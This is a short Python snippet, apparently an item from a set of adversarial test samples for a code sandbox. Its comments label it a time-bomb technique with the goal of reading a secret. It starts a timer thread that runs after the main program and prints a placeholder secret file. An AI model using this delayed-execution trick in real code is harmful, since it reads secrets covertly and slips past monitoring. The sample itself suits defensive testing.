# technique: a timer thread that outlives the main program
# goal: read-secret
# source: time bombs
import threading
threading.Timer(0.05, lambda: print(open('@SECRET@').read())).start()
